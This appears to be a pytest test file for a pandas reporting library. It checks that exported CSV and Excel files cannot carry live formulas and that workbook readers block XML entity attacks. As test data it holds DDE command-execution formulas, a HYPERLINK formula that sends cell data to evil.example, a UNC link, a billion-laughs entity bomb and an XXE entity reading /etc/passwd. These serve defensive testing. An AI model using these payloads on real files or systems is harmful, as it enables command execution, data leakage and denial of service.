"""What a spreadsheet opens runs nothing, and what a spreadsheet brings reads nothing and fills no memory."""

from __future__ import annotations

import csv
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, strategies as st
from support.reviewed_workbooks import make_results

import reportflow_pandas as rf
from reportflow_pandas.delivery.hand_over import check_archive
from reportflow_pandas.export.csv_file import escaped, harmless, unescaped

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1;"x")',
    "\t=1+1",
    "\r=1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",  # noqa: RUF001 - Excel takes it for =
    "Miller;=cmd|' /C calc'!A0",
    "Miller; =cmd|' /C calc'!A0",
    "Miller\";=cmd|' /C calc'!A0;\"",
    "Miller\n=cmd|' /C calc'!A0",
    "Miller\t@SUM(A1)",
]
ALIVE = re.compile(r"[\s\x00-\x1f\u200b\ufeff]*[=+\-@＝].*[(|!]")  # noqa: RUF001 - the same


def cells_anywhere(text: str) -> list[str]:
    """Return the cells that a file has for spreadsheets that separate by a comma, a semicolon or a tab."""
    found = []
    for separator in ",;\t":
        for line in csv.reader(text.splitlines(), delimiter=separator):
            found += line
    return found


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_a_csv_is_a_formula_in_whichever_country_it_is_opened(formula: str, tmp_path: Path) -> None:
    results = make_results(["failed", "ready"], index=[formula, "b"])
    results["error"] = [formula, None]
    results.reportflow.to_csv(
        tmp_path / "results.csv", source=pd.DataFrame({formula: [formula, "x"]}, results.index)
    )
    cells = cells_anywhere((tmp_path / "results.csv").read_text("utf-8-sig"))
    assert [cell for cell in cells if ALIVE.match(cell)] == []


@pytest.mark.parametrize("text", ["- milk\n- bread", "Tel;\n+49 30 1234", "a; -5 °C", "x = 1; y = (2)", "Müller"])
def test_within_a_text_only_what_would_run_is_marked(text: str) -> None:
    assert harmless(text).removeprefix("'") == text


@given(st.text(alphabet="'=+-@;\t\r\n (|!a1.\u200b"))
def test_what_is_escaped_can_be_read_back(text: str) -> None:
    assert unescaped(escaped(text)) == text


@pytest.mark.filterwarnings("ignore::reportflow_pandas.delivery.release.DeliveryWarning")
def test_no_cell_of_an_archives_index_is_a_formula_and_a_second_call_knows_the_files(tmp_path: Path) -> None:
    """Labels and names of files come from cells, too."""
    names = ["=1+1", "-x(1)", "x;=SUM(A1)"]
    results = make_results(["ready"] * 3, index=["=cmd|' /C calc'!A0", "@SUM(1)", "c;=cmd|x!A1"])
    paths = [tmp_path / f"{name}.pdf" for name in names]
    for path in paths:
        path.write_bytes(b"%PDF-1.7 " + path.name.encode())
    results["path"] = list(map(str, paths))
    decisions = pd.DataFrame({"decision": "approve", "comment": None}, index=results.index)
    source = pd.DataFrame({"Who": FORMULAS[:3], "Total": [-12.5, 3, -4]}, index=results.index)
    archive = tmp_path / "archive"
    chosen = {"source": source, "partner": "Who", "amount": "Total"}
    results.reportflow.hand_over(archive, decisions, **chosen)
    written = (archive / "index.csv").read_text("utf-8-sig")
    assert [cell for cell in cells_anywhere(written) if ALIVE.match(cell)] == []
    assert "-12.5," in written, "a credit note's amount stays a number"
    assert check_archive(archive).empty
    assert results.reportflow.hand_over(archive, decisions, **chosen)["number"].tolist() == [1, 2, 3]
    assert (archive / "index.csv").read_text("utf-8-sig") == written
    for row in openpyxl.load_workbook(archive / "index.xlsx")["Documents"].iter_rows():
        assert [cell.coordinate for cell in row if cell.data_type == "f"] == []


def test_no_cell_of_the_workbook_is_a_formula(tmp_path: Path) -> None:
    count = len(FORMULAS)
    results = make_results(["failed"] * count, index=FORMULAS)
    results["error"] = FORMULAS
    results.reportflow.to_excel(tmp_path / "review.xlsx", source=pd.DataFrame({"=1+1": FORMULAS}, results.index))
    for sheet in openpyxl.load_workbook(tmp_path / "review.xlsx"):
        assert [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"] == []


ENTITIES = b"".join(b'<!ENTITY %c "%s">' % (98 + at, b"&%c;" % (97 + at) * 10) for at in range(9))
BILLION_LAUGHS = b'<!DOCTYPE x [<!ENTITY a "lololololol">' + ENTITIES + b"]>"
FOREIGN_FILE = b'<!DOCTYPE x [<!ENTITY j SYSTEM "file:///etc/passwd">]>'


def poisoned(path: Path, part: str, head: bytes) -> Path:
    """Return a copy of a packed file, one part of which declares an entity ``j`` and uses it in its last text."""
    copy = path.with_stem(f"poisoned-{path.stem}")
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(copy, "w") as new:
        assert part in old.namelist()
        for name in old.namelist():
            content = old.read(name)
            if name == part:
                declaration, end, rest = content.rpartition(b"?>")
                before, tag, after = rest.rpartition(b"</")
                before, inner, middle = before.rpartition(b"</")
                content = declaration + end + head + before + b"&j;" + inner + middle + tag + after
            new.writestr(name, content)
    return copy


def workbook(folder: Path) -> Path:
    book = openpyxl.Workbook()
    book.active.append(["Name", "Total"])
    book.active.append(["Ann", 1])
    book.save(folder / "rows.xlsx")
    return folder / "rows.xlsx"


def review(folder: Path) -> Path:
    make_results(["ready", "failed"]).reportflow.to_excel(folder / "review.xlsx")
    return folder / "review.xlsx"


def opendocument(folder: Path) -> Path:
    pd.DataFrame({"Name": ["Ann"], "Total": [1]}).to_excel(folder / "rows.ods", index=False, engine="odf")
    return folder / "rows.ods"


PARTS = [
    *((workbook, rf.read_rows, part) for part in ("xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/styles.xml")),
    *((review, rf.read_review, part) for part in ("xl/workbook.xml", "xl/worksheets/sheet2.xml", "xl/styles.xml")),
    (opendocument, rf.read_rows, "content.xml"),
]


@pytest.mark.parametrize("head", [BILLION_LAUGHS, FOREIGN_FILE], ids=["billion laughs", "foreign file"])
@pytest.mark.parametrize(("made", "read", "part"), PARTS, ids=lambda one: getattr(one, "__name__", one))
def test_entities_in_a_workbook_read_no_file_and_fill_no_memory(
    made: Callable[[Path], Path],
    read: Callable[[Path], pd.DataFrame],
    part: str,
    head: bytes,
    tmp_path: Path,
) -> None:
    path = poisoned(made(tmp_path), part, head)
    try:
        frame = read(path)
    except rf.ConfigurationError as refusal:
        said = str(refusal)
    else:
        said = frame.to_csv()
    assert "root:" not in said
    assert len(said) < 10_000


def test_a_link_to_another_workbook_is_not_followed_and_a_dde_formula_not_taken_for_a_value(
    tmp_path: Path,
) -> None:
    book = openpyxl.Workbook()
    book.active.append(["Name", "Total"])
    book.active.append(["='\\\\evil.example\\share\\[x.xlsx]S'!A1", "=cmd|' /C calc'!A0"])
    book.save(tmp_path / "rows.xlsx")
    with pytest.raises(rf.ConfigurationError, match="2 formulas without a stored value: A2, B2"):
        rf.read_rows(tmp_path / "rows.xlsx")
